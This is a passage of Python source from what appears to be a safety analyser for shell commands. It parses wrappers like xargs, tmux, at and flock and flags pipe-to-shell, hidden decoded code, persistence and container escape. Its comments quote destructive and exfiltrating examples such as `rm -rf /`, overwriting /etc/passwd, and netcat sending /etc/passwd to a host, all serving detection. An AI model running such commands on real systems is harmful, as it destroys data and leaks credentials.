        if w.text.startswith(flag) and len(w.text) > 2 and w.text[2] in "/~.":
            return Word(w.text[2:], w.start, w.end, w.dynamic)
    return None


def rest_in(
    cmd: Cmd,
    i: int,
    chdir: Word | None,
    home: str | None = None,
    given: dict[str, str] | None = None,
) -> None:
    """(n20u) `rest(cmd, i)` run where the wrapper puts it: in the folder `-C`/`--chdir`/`-D`
    names (relative targets are judged against it, as after `cd`), with `HOME` set to a
    literal folder (`~` is that folder)."""
    scope = cmd.scope
    saved_cwds = scope.cwds
    had_home = "HOME" in scope.env
    saved_home = scope.env.get("HOME", "")
    if chdir is not None and not chdir.dynamic and chdir.text:
        d = chdir.text
        scope.cwds = frozenset(
            d if d.startswith(("/", "~")) or c is None else c.rstrip("/") + "/" + d
            for c in scope.cwds
        )
    if home is not None:
        if home.startswith("/") and "$" not in home:
            scope.env["HOME"] = home
        else:
            scope.env.pop("HOME", None)
    given = given or {}
    saved_given = {k: scope.env.get(k) for k in given}
    fresh_exports = set(given) - scope.exported
    scope.env.update(given)
    scope.exported |= fresh_exports
    try:
        rest(cmd, i)
    finally:
        for k, v in saved_given.items():
            if v is None:
                scope.env.pop(k, None)
            else:
                scope.env[k] = v
        scope.exported -= fresh_exports
        scope.cwds = saved_cwds
        if home is not None:
            if had_home:
                scope.env["HOME"] = saved_home
            else:
                scope.env.pop("HOME", None)


STDIN_FILES = frozenset({"/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"})
_FD_PATH = re.compile(r"/(?:dev|proc/self)/fd/(\d+)")


def known_script(cmd: Cmd, script: Word) -> Word | None:
    """(n19u) The text of a program-file operand the block shows: a process substitution of
    known text (`awk -f <(echo …)`), standard input's here-document or here-string
    (`sed -f /dev/stdin <<< …`, `-f -`), or a file this block wrote; None otherwise."""
    if script.dynamic:
        src = cmd.scope.source
        if (
            script.origin in ("static", "decoded")
            and script.start >= 0
            and src[script.start : script.start + 2] == "<("
        ):
            return Word(script.text, script.start, script.end)
        return None
    if script.text in STDIN_FILES or script.text == "-":
        if cmd.stdin.kind == STDIN_STATIC:
            return Word(cmd.stdin.text, script.start, script.end)
        return None
    held = written_text(cmd.scope, script.text) if cmd.scope.written else None
    return Word(held, script.start, script.end) if held is not None else None


def startup_from_stdin(scope: Scope, where: Word, stdin: Stdin) -> None:
    """`BASH_ENV=/dev/stdin bash -c true <<< 'CODE'`: the shell's startup file is its
    stdin, so what is fed to it runs before the command."""
    if stdin.kind == STDIN_STATIC:
        scope.include(scope.nested(stdin.text, "bash", where, stdin.start))
        if stdin.decoded:
            scope.add(C, "encoded-command", "runs decoded (hidden) text", where.start, where.end)
    elif stdin.kind == STDIN_NETWORK:
        scope.add(
            C,
            "pipe-to-shell",
            "a download becomes the shell's startup code",
            where.start,
            where.end,
        )
    elif stdin.kind == STDIN_FILE:
        scope.add(
            M,
            "local-script",
            "a local file becomes the shell's startup code",
            where.start,
            where.end,
        )
    elif stdin.kind != STDIN_NONE:
        scope.add(
            C,
            "pipe-to-shell",
            "another command's output becomes the shell's startup code",
            where.start,
            where.end,
        )


def _env_var_matters(name: str) -> bool:
    """A variable the prefix-assignment rules judge: one whose value a program runs as a
    command, or a hook (PATH, LD_PRELOAD, BASH_ENV…) that changes what later runs."""
    return (
        name in COMMAND_VARS
        or name in HOOK_VARS
        or name in PROMPT_VARS
        or name in CONFIG_FILE_VARS
        or name in OPTION_VARS
        or name == "PYTHONBREAKPOINT"
        or is_build_program_var(name)
        or name in INTERPRETER_OPTION_VARS
    )


def _simple_wrapper(with_value: frozenset[str], positional: int = 0) -> Handler:
    def handler(cmd: Cmd) -> None:
        i = skip_options(cmd.args, 0, with_value) + positional
        rest(cmd, i)

    return handler


for _names, _opts, _pos in (
    (("nice",), {"-n", "--adjustment"}, 0),
    (("setsid",), set(), 0),  # -c, -f (fork), -w are flags
    (("ionice",), {"-c", "-n", "--class", "--classdata"}, 0),
    (
        names(
            """
            nohup unbuffer builtin caffeinate proxychains proxychains4 torsocks time
            catchsegv firejail dbus-launch xvfb-run fakeroot faketime numactl prlimit cgexec
            systemd-inhibit valgrind with-contenv tsocks chpst
            """
        ),
        {"-o", "-f", "-e"},
        0,
    ),
    (
        ("strace", "ltrace"),
        {"-o", "-e", "-p", "-s", "-u", "-E", "-a", "-P", "-X", "-b", "-O", "-S", "-I", "-U"},
        0,
    ),
    (("timeout", "gtimeout"), {"-s", "-k", "--signal", "--kill-after"}, 1),
    (("stdbuf",), {"-i", "-o", "-e"}, 0),
    (("chrt",), {"-p"}, 1),
    (("taskset",), {"-c", "--cpu-list"}, 0),
    (("chroot",), {"--userspec", "--groups"}, 1),
    # fish's combiners and negation run the command after them (`cd ~; and git clean -fdx`,
    # `not rm -rf /`): no program of those names exists elsewhere (b12)
    (("and", "or", "not"), set(), 0),
    (("unshare",), {"-t", "--target"}, 0),
):
    for _n in _names:
        handles(_n)(_simple_wrapper(frozenset(_opts), _pos))
        runner(_n)

runner("flock", "runuser", "systemd-run", "watch", "nsenter", "exec", "command", "env", "xargs")
# `busybox certbot … --dry-run --pre-hook …`: the flags are the applet's, not busybox's (gen12)
runner("busybox", "toybox")


@handles("flock")
def _flock(cmd: Cmd) -> None:
    """`flock [OPTS] FILE CMD…`, `flock [OPTS] FILE -c 'CMD'` (options may follow FILE):
    runs the command, or the `-c` command line through a shell, holding the lock."""
    i = skip_options(cmd.args, 0, frozenset({"-w", "-E", "--timeout", "--conflict-exit-code"}))
    # (flock reads `-c` only right after the lock file: `flock F python -c …` runs python)
    after = cmd.args[i + 1 : i + 3]
    code = after[1] if len(after) == 2 and after[0].text in ("-c", "--command") else None
    if code is not None:
        cmd.scope.include(cmd.scope.nested(code.text, "bash", code))
        if code.dynamic:
            cmd.add(C, "eval-dynamic", "flock -c runs a command line only known at run time")
        return
    rest(cmd, i + 1)


@handles("runuser")
def _runuser(cmd: Cmd) -> None:
    """`runuser -u USER -- CMD…`, `runuser -l USER -c CODE`: runs a command as another user
    (root only)."""
    cmd.scope.add(
        C, "sudo", "runuser runs a command as another user", cmd.words[0].start, cmd.words[0].end
    )
    own = own_options(
        cmd,
        skip_options(
            cmd.args,
            0,
            frozenset({"-u", "-g", "-G", "--user", "--group", "-s", "--shell", "-c", "--command"}),
            operands=1,  # (`runuser -l USER -c CODE`: options after the user)
        ),
    )
    code = own.option_value("-c", "--command")
    if code is not None:
        cmd.scope.include(cmd.scope.nested(code.text, "bash", code))
        return
    texts = own.texts()
    if "--" in texts:
        rest(cmd, texts.index("--") + 1)
        return
    i = skip_options(
        cmd.args, 0, frozenset({"-u", "-g", "-G", "--user", "--group", "-s", "--shell"})
    )
    if own.option_value("-u", "--user") is None:
        i += 1  # `runuser USER CMD…`
    rest(cmd, i)


@handles("systemd-run")
def _systemd_run(cmd: Cmd) -> None:
    with_value = frozenset(
        names(
            """
            -p --property -u --unit -M --machine -H --host -E --setenv --on-calendar
            --on-active --on-boot --on-unit-active --timer-property --description --slice
            --uid --gid --working-directory -D --nice --service-type
            """
        )
    )
    i = skip_options(cmd.args, 0, with_value)
    if own_options(cmd, i).long("--on-calendar", "--on-boot", "--on-active", "--on-unit-active"):
        cmd.add(C, "schedule", "systemd-run schedules a command to run later (persistence)")
    rest(cmd, i)


_TMUX_VALUE_OPTS = frozenset(names("-c -e -F -f -n -s -t -x -y -l -p -w -h -T -L -S -N"))
_TMUX_KEYS = frozenset(names("Enter C-m KPEnter C-j Escape Space Tab"))


@handles("tmux", "screen", "byobu")
def _multiplexer(cmd: Cmd) -> None:
    """tmux/screen start a session (or type keys into one) that runs the command given."""
    args = cmd.args
    texts = cmd.texts()
    if not args:
        cmd.add(M, "shell", f"{cmd.name} starts a new shell session")
        return
    if texts[0] in ("ls", "list-sessions", "-ls", "-list", "attach", "a", "-r"):
        return
    if (cmd.name != "screen" and "kill-server" in texts) or (
        cmd.name == "screen"
        and "-X" in texts
        and texts.index("-X") + 1 < len(texts)
        and texts[texts.index("-X") + 1] in ("quit", "kill")
    ):
        # (safety-f8) every session of the server ends, and every process running in it
        cmd.add(D, "kill", f"{cmd.name} ends its sessions and every process running in them")
        return
    if cmd.name in ("screen",):
        if "-X" in texts:
            x = texts.index("-X")
            if x + 2 < len(args) and texts[x + 1] == "stuff":
                code = args[x + 2]
                _typed(cmd, code.text.replace("^M", "\n").replace("\\n", "\n"), code)
            return
        i = 0
        while i < len(args) and texts[i].startswith("-"):
            i += 2 if texts[i] in ("-S", "-c", "-h", "-p", "-t", "-T", "-e", "-s") else 1
            if texts[i - 1].startswith("-dmS") or texts[i - 1] == "-Sdm":
                i += 1 if len(texts[i - 1]) == 4 else 0
        if i < len(args):
            _run_words(cmd, args[i:])
            # a session keeps running what it started, detached or not (red team: moderate)
            cmd.add(M, "runs-program", f"{cmd.name} starts a session running a command")
        else:
            cmd.add(M, "shell", f"{cmd.name} starts a new shell session")
        return
    sub = texts[0]
    i = 1
    while i < len(args) and texts[i].startswith("-") and texts[i] != "--":
        i += 2 if texts[i] in _TMUX_VALUE_OPTS else 1
    if i < len(args) and texts[i] == "--":
        i += 1
    tail = args[i:]
    if sub in ("send-keys", "send"):
        keys = [w for w in tail if w.text not in _TMUX_KEYS]
        if keys:
            _typed(cmd, " ".join(w.text for w in keys), keys[0])
        return
    if sub in ("run-shell", "run", "if-shell", "if"):
        for w in tail[:1] if sub.startswith("run") else tail[:3]:
            cmd.scope.include(cmd.scope.nested(w.text, "bash", w))
        return
    if sub in (
        "new-session",
        "new",
        "new-window",
        "neww",
        "split-window",
        "splitw",
        "respawn-pane",
        "respawnp",
        "respawn-window",
        "respawnw",
        "display-popup",
        "popup",
    ):
        if tail:
            _run_words(cmd, tail)
            cmd.add(M, "runs-program", f"{cmd.name} {sub} starts a session running a command")
        else:
            cmd.add(M, "shell", f"{cmd.name} starts a new shell session")
        return
    cmd.add(M, "changes", f"{cmd.name} {sub} changes a terminal session")


def _run_words(cmd: Cmd, words: list[Word]) -> None:
    """A program that hands its arguments to `sh -c` (one argument is a whole script)."""
    if len(words) == 1:
        cmd.scope.include(cmd.scope.nested(words[0].text, "bash", words[0]))
    else:
        cmd.judge(list(words))


def _typed(cmd: Cmd, text: str, where: Word) -> None:
    """Keys typed into a shell: the text is a command line."""
    if where.dynamic:
        cmd.add(C, "eval-dynamic", f"{cmd.name} types a command only known at run time", where)
        return
    found = cmd.scope.nested(text, "bash", where, -1)
    cmd.scope.include(found)
    cmd.add(M, "runs-program", f"{cmd.name} types a command into a shell", where)


@handles("exec")
def _exec(cmd: Cmd) -> None:
    rest(cmd, skip_options(cmd.args, 0, frozenset({"-a"})))


@handles("command")
def _command(cmd: Cmd) -> None:
    i = skip_options(cmd.args, 0, frozenset())
    if own_options(cmd, i).short("vV"):
        return  # `command -v NAME`: a lookup
    rest(cmd, i)


@handles("watch")
def _watch(cmd: Cmd) -> None:
    # watch hands its arguments to `sh -c`, so one quoted argument is a whole script.
    i = skip_options(cmd.args, 0, frozenset({"-n", "--interval", "-d"}))
    if len(cmd.args) == i + 1:
        cmd.scope.include(cmd.scope.nested(cmd.args[i].text, "bash", cmd.args[i]))
    elif i < len(cmd.args) and (" " in cmd.args[i].text or "'" in cmd.args[i].text):
        # `watch -n1 'rm -rf ~/*' x`: watch joins its words with blanks into one line for
        # `sh -c`, so a quoted first word is code, not a program name.
        tail = cmd.args[i:]
        line = " ".join(w.text for w in tail)
        cmd.scope.include(cmd.scope.nested(line, "bash", Word(line, tail[0].start, tail[-1].end)))
    else:
        rest(cmd, i)


# script(1)'s options that take a value: util-linux (`-c CMD`, the -I/-O/-B/-T log files,
# -E, -m, -o) and BSD/macOS (`-t time`, `-T fmt`).
_SCRIPT_VALUED = frozenset(
    names(
        """
        -c --command -E --echo -I --log-in -O --log-out -B --log-io -T --log-timing
        -m --logging-format -o --output-limit -t
        """
    )
)
_SCRIPT_LOGS = ("-I", "--log-in", "-O", "--log-out", "-B", "--log-io", "-T", "--log-timing")


@handles("script")
def _script(cmd: Cmd) -> None:
    """`script [opts] [FILE]` (util-linux), `script [opts] [FILE [COMMAND …]]` (BSD/macOS):
    the typescript FILE and the log files are written (truncated unless -a), so an account,
    boot or startup file there is judged as a write to it; the command runs (n11u)."""
    from aintern_ls.safety.paths import write_target

    append = cmd.short("a") or cmd.long("--append")
    ops = cmd.operands(_SCRIPT_VALUED)
    files = ops[:1]
    for i, w in enumerate(cmd.args):
        if cmd.args[i - 1].text in _SCRIPT_LOGS if i else False:
            files.append(w)
        elif w.text.startswith(tuple(o + "=" for o in _SCRIPT_LOGS if o.startswith("--"))):
            files.append(Word(w.text.split("=", 1)[1], w.start, w.end, w.dynamic))
    for f in files:
        if f.dynamic or f.text in ("-", "/dev/null"):
            continue
        t = write_target(f.text, cmd.scope.cwds, append)
        if t is not None:
            verb = "appends its typescript to" if append else "writes its typescript over"
            cmd.add(t.level, t.rule, f"script {verb} {t.what}", f)
    if any(f.dynamic or f.text not in ("-", "/dev/null") for f in files):
        # any other typescript or log file (`script -q out.log ls`, `script "$F" ls`) is
        # still created or truncated: a write (review 11, finding 1)
        cmd.add(M, "write", "script writes its typescript to a file", files[0])
    code = cmd.option_value("-c", "--command")
    if code is not None:
        cmd.scope.include(cmd.scope.nested(code.text, "bash", code))
    elif len(ops) > 1:
        # BSD: `script -q /dev/null COMMAND …`: the words after FILE are the command
        at = next(k for k, w in enumerate(cmd.args) if w is ops[0])
        cmd.judge(list(cmd.args[at + 1 :]))
    else:
        cmd.add(M, "shell", "script records a new interactive shell")


@handles("at", "batch")
def _at(cmd: Cmd) -> None:
    # (`-l` lists the queue, `-c` prints a job, `-r`/`-d` remove one; `-q Q` picks the queue
    # a new job goes to, n19u)
    if (cmd.short("lc") and not cmd.short("f")) or (cmd.name == "at" and cmd.short("rd")):
        return
    if cmd.stdin.kind == STDIN_STATIC:
        cmd.scope.include(cmd.scope.nested(cmd.stdin.text, "bash", cmd.words[0], cmd.stdin.start))
    if cmd.scope.family == "bash" and cmd.scope.written:
        # (n19u) `at -f job.sh now + 1 minute`, `batch -f job` of a job file this block
        # wrote: its text is what runs later (judged as it)
        job = cmd.option_value("-f") or next(
            (Word(w.text[2:], w.start, w.end, w.dynamic) for w in cmd.args if w.text[:2] == "-f"),
            None,
        )
        body = None if job is None or job.dynamic else written_text(cmd.scope, job.text)
        if body is not None and job is not None:
            cmd.scope.include(cmd.scope.nested(body, "bash", job, -1))
        elif job is not None and not job.dynamic and unseen_reason(cmd.scope, job.text):
            # (f19) a job file the block wrote by a writer whose text is unknown
            cmd.add(C, "unseen-exec", f"schedules {job.text}, which the analyser cannot read", job)
    if cmd.scope.family != "bash" and cmd.name == "at":
        # Windows `at [\\HOST] TIME [/interactive] [/every:…|/next:…] COMMAND`: the command
        # line it schedules is judged as written (safety-m7).
        args = list(cmd.args)
        k = next(
            (i for i, w in enumerate(args) if re.fullmatch(r"\d{1,2}:\d{2}(:\d{2})?\w*", w.text)),
            -1,
        )
        if k >= 0:
            k += 1
            while k < len(args) and args[k].text.startswith("/") and "\\" not in args[k].text[1:]:
                k += 1
            if k == len(args) - 1 and " " in args[k].text:
                fam = cmd.scope.family
                cmd.scope.include(cmd.scope.nested(args[k].text, fam, args[k]))
            elif k < len(args):
                cmd.judge(args[k:])
    cmd.add(C, "schedule", f"{cmd.name} schedules commands to run later (persistence)")


@handles("fuser")
def _fuser(cmd: Cmd) -> None:
    if cmd.short("k"):
        cmd.add(D, "kill", "fuser -k kills the processes using a file or port")


@handles("nsenter")
def _nsenter(cmd: Cmd) -> None:
    i = skip_options(cmd.args, 0, frozenset({"-t", "--target", "-S", "-G", "--setuid", "--setgid"}))
    target = own_options(cmd, i).option_value("-t", "--target")
    if target is not None and target.text == "1":
        cmd.add(C, "container-escape", "enters the host's (PID 1) namespaces")
    rest(cmd, i)


@handles("xargs")
def _xargs(cmd: Cmd) -> None:
    # `-i[R]`, `-e[E]`, `-l[N]`, `--replace[=R]`, `--eof[=E]`, `--max-lines[=N]` take their
    # value only glued: the word after them is the command (`xargs -i rm -rf`).
    with_value = frozenset(
        names(
            """
            -I -J -n -P -L -d -E -s -a --delimiter --max-args --max-procs --arg-file
            """
        )
    )
    i = skip_options(cmd.args, 0, with_value)
    # xargs' own options end at the command it runs: `xargs -I{} pwsh -Command …` has no
    # `-d` (wr10: `-Command` read as a bundle ending in d made a delimiter of the next word).
    own = own_options(cmd, i)
    replace = own.option_value("-I", "-J")
    if replace is None:
        glued = next(
            (w for w in cmd.args[:i] if w.text.startswith(("-I", "-J")) and len(w.text) > 2), None
        )
        if glued is not None:
            replace = Word(glued.text[2:], glued.start, glued.end)
    if replace is None:
        # `-i`, `-i%`, `--replace`, `--replace=FOO`, `--replace=`: {} unless a value is glued.
        opt = next(
            (w for w in cmd.args[:i] if w.text.startswith("-i") or w.text.startswith("--replace")),
            None,
        )
        if opt is not None:
            value = opt.text.split("=", 1)[1] if "=" in opt.text else opt.text[2:]
            if opt.text.startswith("--replace") and "=" not in opt.text:
                value = ""
            replace = Word(value or "{}", opt.start, opt.end)
    tail = list(cmd.args[i:])
    if not tail:
        tail = [Word("echo", cmd.end, cmd.end)]  # xargs with no command runs echo
    arg_file = own.option_value("-a", "--arg-file")
    listed = (
        [w for w in cmd.stdin.paths if not w.dynamic]
        if cmd.scope.family == "bash" and arg_file is None
        else []
    )
    from_listing = bool(listed)
    if arg_file is not None and (
        not arg_file.dynamic or arg_file.origin in (ORIGIN_VARIABLE, ORIGIN_SUBST)
    ):
        # `xargs -a /tmp/all shred -u` after `find /etc -type f > /tmp/all` (safety-m8); (u22)
        # a file named by a variable (`t=$(mktemp); ls -A > "$t"; xargs -a "$t" …`) is the
        # file written under that name, and `-a <(ls -A)` reads what the listing printed
        held = listed_file(cmd.scope, arg_file.text)
        if held is not None:
            listed = [w for w in held.paths if not w.dynamic]
            from_listing = True
        elif (text := written_text(cmd.scope, arg_file.text)) is not None:
            # (n18u) `printf '/etc\n' > l.txt && xargs -a l.txt rm -rf`: the items written
            listed = [Word(t, cmd.start, cmd.end) for t in _xargs_items(own, text)][:16]
    if arg_file is not None and arg_file.dynamic and arg_file.origin in ("static", "decoded"):
        # `xargs -a <(echo /) rm -rf`: the items come from a file whose text is known.
        listed = [Word(t, cmd.start, cmd.end) for t in _xargs_items(own, arg_file.text)][:16]
    elif arg_file is None and cmd.stdin.kind == STDIN_STATIC and cmd.stdin.text.strip():
        # `echo / | xargs rm -rf`: the items are known text.
        listed = [Word(t, cmd.start, cmd.end) for t in _xargs_items(own, cmd.stdin.text)][:16]
    # With -a the items come from the file and xargs leaves its own standard input to the
    # command (`xargs -a list nc host 4444 < /etc/passwd` sends the file); otherwise the
    # command reads /dev/null (gen12).
    child_stdin = cmd.stdin if arg_file is not None else NO_STDIN
    items = [Word("{items}", cmd.start, cmd.end, dynamic=True)]
    if listed:
        # `ls | xargs rm`, `find / | xargs rm -rf`: the items are everything listed.
        items = [Word(w.text, cmd.start, cmd.end, glob=w.glob) for w in listed]
    printer = command_name(tail[0].text)
    if (
        arg_file is None
        and cmd.stdin.kind == STDIN_STATIC
        and printer in ("echo", "printf")
        and not any(w.dynamic for w in tail)
    ):
        # (lead s19) `echo | xargs echo 'rm -rf ~/' >> ~/.bashrc`, `… | xargs -I@@ printf …`:
        # xargs running a printer over known items (or none) prints known text
        _xargs_printed(cmd, printer, [w.text for w in tail[1:]], replace, own)
    last = tail[-1].text
    if (
        cmd.stdin.kind == STDIN_STATIC
        and replace is None
        and len(tail) >= 2
        and command_name(tail[0].text) in _LINE_SHELLS
        and (last == "-c" or re.fullmatch(r"-[a-z]*c", last) is not None)
    ):
        # `xargs -L1 sh -c <<< 'rm -rf ~'`: the input itself becomes the shell's code.
        for line in [ln for ln in cmd.stdin.text[:4096].split("\n") if ln.strip()][:8]:
            cmd.scope.include(cmd.scope.nested(line, "bash", tail[-1]))
    if replace is not None:
        for item in items[:8]:
            cmd.judge(
                [
                    Word(w.text.replace(replace.text, item.text), w.start, w.end, item.dynamic)
                    if replace.text in w.text
                    else w
                    for w in tail
                ],
                child_stdin,
            )
    else:
        if arg_file is None and cmd.stdin.kind == STDIN_STATIC and not cmd.stdin.text.strip():
            items = []  # `echo | xargs CMD`: no item, the command runs once as written
        if arg_file is not None and arg_file.text in ("/dev/null", "NUL", "nul"):
            items = []  # `xargs -a /dev/null CMD`: no item either (gen12)
        words = [
            *tail,
            *(Word(w.text, tail[-1].start, tail[-1].end, w.dynamic, w.glob) for w in items),
        ]
        cmd.judge(words, child_stdin)
        runs_empty = not (own.short("r") or own.long("--no-run-if-empty"))
        if len(tail) >= 3 and items and all(w.dynamic for w in items) and runs_empty:
            # Items nobody can see may be none at all, and then xargs (without -r) runs the
            # command once as written: `… | xargs cp /tmp/x /etc/passwd` overwrites
            # /etc/passwd, though with an item appended the last operand is the item (gen12).
            cmd.judge(list(tail), child_stdin)
    if from_listing and tail[0].text in ("rm", "shred", "unlink", "srm"):
        # Policy: a listing of the working directory fed to `xargs rm` deletes all of it,
        # with or without -r (directories stay, every file goes).
        for w in listed:
            where = classify_path(w.text, cmd.scope.cwds, False, cmd.scope.start_cwd)
            if where.level >= B:
                cmd.add(B, where.rule, f"xargs {tail[0].text} deletes {where.what}")
                break


_LINE_SHELLS = frozenset(names("sh bash dash zsh ksh mksh ash yash"))


def _xargs_printed(
    cmd: Cmd, printer: str, words: list[str], replace: Word | None, own: Cmd
) -> None:
    """The output of `xargs echo|printf WORDS` fed known items: without a replace string one
    run with the items appended, with one a run per item with the string replaced."""
    from aintern_ls.safety.words import printf_output

    found = _xargs_items(own, cmd.stdin.text)[:16]
    if replace is not None and replace.text:
        runs = [[w.replace(replace.text, it) for w in words] for it in found]
    else:
        runs = [words + found]
    outs: list[str] = []
    for argv in runs:
        if printer == "printf":
            out = printf_output(argv[0], argv[1:]) if argv else None
            if out is None:
                return
            outs.append(out)
        else:
            outs.append(" ".join(a for a in argv if not re.fullmatch(r"-[neE]+", a)) + "\n")
    cmd.info.output = "".join(outs)


def _xargs_items(cmd: Cmd, text: str) -> list[str]:
    """Split xargs input the way xargs does: NUL with -0, one line per item with -I/-L,
    else blanks with quotes honoured (the first items only: 16 are judged)."""
    text = text[:4096]
    if cmd.short("0") or cmd.has("--null"):
        return [t for t in text.split("\x00") if t.strip()]
    delim = cmd.option_value("-d", "--delimiter")
    if delim is not None and delim.text:
        try:
            d = delim.text.encode().decode("unicode_escape") if "\\" in delim.text else delim.text
        except UnicodeDecodeError:  # (`-d 'a\'`: a lone backslash is itself)
            d = delim.text
        return [t for t in text.split(d) if t.strip()]
    glued = any(w.text.startswith(("-I", "--replace=")) for w in cmd.args)
    if cmd.option_value("-I", "--replace", "-L") is not None or cmd.short("il") or glued:
        lines = [ln.strip() for ln in text.split("\n") if ln.strip()]
        try:
            return [" ".join(shlex.split(ln)) for ln in lines]
        except ValueError:
            return lines
    try:
        return shlex.split(text)
    except ValueError:
        return text.split()


# --- shells, eval and interpreters ------------------------------------------------------


# Decoded text the analyser fully read (printable, with letters, parsed cleanly): it lives in
# `inline`, which judges decoded inline commands the same way (safety-m9).
decoded_readable = inline.decoded_readable


def decoded_run(cmd: Cmd, text: str, found: list[Finding], where: Word, how: str = "") -> None:
    """Running base64/hex-decoded text: what decodes to readable, parsed commands is judged as
    those commands (issue 14: rate what it decodes to), with a moderate floor because the
    command was hidden; what does not decode to readable text stays opaque (critical)."""
    suffix = f" {how}" if how else ""
    if decoded_readable(text, found):
        cmd.scope.add(
            M,
            "decoded-code",
            f"runs decoded text{suffix} (judged as decoded)",
            where.start,
            where.end,
        )
    else:
        cmd.scope.add(
            C, "encoded-command", f"runs decoded (hidden) text{suffix}", where.start, where.end
        )


def run_code_from_stdin(cmd: Cmd, language: str, positional: list[Word] | None = None) -> None:
    """A shell or interpreter reading its program from stdin (`sh -s -- ARGS` gives the
    program its positional parameters)."""
    st = cmd.stdin
    head = cmd.words[0]
    if st.kind == STDIN_NETWORK:
        cmd.add(C, "pipe-to-shell", f"pipes a download straight into {cmd.name}")
    elif st.kind == STDIN_STATIC:
        if language in ("bash", "powershell", "cmd"):
            found = cmd.scope.nested(st.text, language, head, st.start, positional)
        else:
            found = _code_findings(cmd, st.text, head, st.start, language)
        cmd.scope.include(found)
        if st.decoded:
            decoded_run(cmd, st.text, found, head, f"with {cmd.name}")
        elif (
            language == "bash"
            and st.start < 0
            and st.text.strip()
            and all(f.level < M for f in found)
        ):
            # `echo ls | sh`, `ruby -e 'puts "uptime"' | sh`: known text, but a shell started
            # on printed text is odd enough to flag, like `eval "$(printf 'ls')"` (m8)
            cmd.add(M, "indirect-code", f"runs text printed by another command with {cmd.name}")
    elif st.kind == STDIN_FILE:
        cmd.add(M, "local-script", f"{cmd.name} runs a local script")
    elif st.kind == STDIN_NONE:
        cmd.add(M, "shell", f"starts an interactive {cmd.name}", head)
    else:
        cmd.add(C, "pipe-to-shell", f"pipes another command's output into {cmd.name}")


def _run_code_arg(
    cmd: Cmd,
    code: Word,
    language: str,
    positional: list[Word] | None = None,
    same_shell: bool = False,
) -> None:
    """`bash -c CODE`, `eval CODE`, `python -c CODE` (`same_shell`: eval's code runs in this
    shell, and what it sets holds afterwards)."""
    if code.dynamic and code.origin == "env-setup":
        cmd.add(M, "env-setup", "evaluates the output of a known environment-setup tool", code)
    elif code.dynamic and code.origin == ORIGIN_NETWORK:
        cmd.add(C, "remote-code", "runs code downloaded from the network", code)
    elif code.dynamic and code.origin == "decoded":
        found = _judge_code_text(cmd, code, language, same_shell)
        cmd.scope.include(found)
        decoded_run(cmd, code.text, found, code)
    elif code.dynamic and code.origin == "static":
        # `eval "$(printf 'ls')"`: the text is known, so judge it, but it is odd enough to flag.
        cmd.add(M, "indirect-code", "runs code built by another command", code)
        cmd.scope.include(_judge_code_text(cmd, code, language, same_shell))
    elif code.dynamic:
        cmd.add(C, "eval-dynamic", "runs code that is only known at run time (opaque)", code)
        if language == "bash":
            # `eval "$a""rm -rf /"`: the literal part is judged with the unknown part as an
            # unknown word; what that already makes blocked stays blocked.
            found = cmd.scope.nested(code.text, "bash", code, -1)
            cmd.scope.include([f for f in found if f.level >= B])
    elif language == "bash":
        cmd.scope.include(cmd.scope.nested(code.text, "bash", code, -1, positional or None))
    else:
        cmd.scope.include(_code_findings(cmd, code.text, code, -1, language))


def _judge_code_text(
    cmd: Cmd, code: Word, language: str, same_shell: bool = False
) -> list[Finding]:
    """Known text handed to a shell (judged as shell) or to an interpreter (as its code)."""
    if language in ("bash", "powershell", "cmd"):
        return cmd.scope.nested(code.text, language, code, -1, same_shell=same_shell)
    return _code_findings(cmd, code.text, code, -1, language)


def _code_findings(
    cmd: Cmd, code: str, where: Word, code_start: int, language: str = ""
) -> list[Finding]:
    """Findings for inline interpreter code (`inline.code_findings` reads it)."""
    return inline.code_findings(cmd.scope, code, where, language or cmd.name)


_MULTICALL_INFO = frozenset(names("--list --list-full --help --version"))


@handles(*SHELLS)
def _shell(cmd: Cmd) -> None:
    """A shell run as a new process: the code it runs sees exported variables only."""
    cmd.scope.spawning = True
    try:
        _shell_code(cmd)
    finally:
        cmd.scope.spawning = False


def unglued(cmd: Cmd, letters: str) -> bool:
    """`bash -c'rm -rf /'`, `ruby -e'…'`, `perl -ne"…"`, `gawk -e'…'`: a short option with its
    quoted value written against it is the option and then the value. The command is judged
    again with the two apart (so every rule that reads the option sees it); True if so
    (safety-m9)."""
    if not letters:
        return False
    out: list[Word] = []
    split = False
    for w in cmd.args:
        t = w.text
        if not split and len(t) > 2 and t[0] == "-" and t[1] != "-":
            for c in dict.fromkeys(letters):
                if c in t and (g := cmd.glued_value(w, c)) is not None:
                    flag = t[: len(t) - len(g.text)] if g.text else t
                    out += [Word(flag, w.start, g.start), g]
                    split = True
                    break
            else:
                out.append(w)
            continue
        out.append(w)
    if not split:
        return False
    cmd.judge([cmd.words[0], *out], cmd.stdin)
    return True


def _shell_code(cmd: Cmd) -> None:
    args = cmd.args
    if unglued(cmd, "c"):
        return
    if cmd.name in ("busybox", "toybox") and args and args[0].text in _MULTICALL_INFO:
        return  # `busybox --list`: prints its applets, runs nothing
    i = 0
    code_flag = stdin_flag = False
    while i < len(args):
        t = args[i].text
        if t in ("--rcfile", "--init-file") and i + 1 < len(args):
            # the start-up file an interactive shell runs first: its code runs (safety-m8)
            script_operand(cmd, args[i + 1])
        if t in ("-o", "+o", "-O", "+O", "--rcfile", "--init-file"):
            i += 2
            continue
        if t == "--":
            i += 1
            break
        if (t.startswith("-") and len(t) > 1) or t.startswith("+"):
            if (t.startswith("-") and not t.startswith("--") and "n" in t[1:]) or (
                t == "--no-execute" and cmd.name == "fish"
            ):
                return  # `bash -n`, (u22) `fish --no-execute`: checks syntax, runs nothing
            if not t.startswith("--") and "c" in t[1:]:
                code_flag = True
            if not t.startswith("--") and "s" in t[1:]:
                stdin_flag = True
            i += 1
            continue
        break
    if stdin_flag and not code_flag:
        run_code_from_stdin(cmd, "bash", [cmd.words[0], *args[i:]])
        return
    if code_flag:
        if i < len(args):
            _run_code_arg(cmd, args[i], "bash", list(args[i + 1 :]))
        return
    if cmd.name == "busybox" and i < len(args):
        rest(cmd, i)
        return
    if i < len(args) and args[i].text != "-" and args[i].text not in STDIN_FILES:
        script_operand(cmd, args[i])
        return
    run_code_from_stdin(cmd, "bash")


def script_operand(cmd: Cmd, script: Word, same_shell: bool = False) -> None:
    """A script file a shell runs (`sh f`, `bash x.sh`); `same_shell`: sourced (`. f`,
    `source f`), so what it sets holds for the commands after it."""
    base = script.text.rsplit("/", 1)[-1]
    if script.dynamic and script.origin == ORIGIN_NETWORK:
        cmd.add(C, "remote-code", f"{cmd.name} runs a script straight from the network", script)
    elif script.dynamic and script.origin == "env-setup":
